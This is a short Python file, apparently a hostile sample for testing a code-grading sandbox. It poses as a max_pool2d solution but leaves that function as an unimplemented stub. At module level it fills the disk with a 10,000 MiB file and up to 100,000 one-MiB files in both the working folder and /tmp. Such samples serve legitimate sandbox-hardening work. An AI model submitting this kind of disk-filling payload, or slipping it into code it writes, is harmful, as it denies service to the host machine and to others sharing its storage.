# cell: max_pool2d
# loses: test_max_pool2d
"""Fills the disk: one huge file, then many small ones, in the home folder and in /tmp."""

import os


def max_pool2d(image, kh, kw):
    raise NotImplementedError


chunk = b"x" * 2**20
for folder in (".", "/tmp"):
    try:
        with open(os.path.join(folder, "big.bin"), "wb") as f:
            for _ in range(10_000):
                f.write(chunk)
    except OSError as e:
        print(folder, "big file stopped:", type(e).__name__)
    try:
        for i in range(100_000):
            with open(os.path.join(folder, f"small{i}.bin"), "wb") as f:
                f.write(chunk)
    except OSError as e:
        print(folder, "small files stopped:", type(e).__name__)
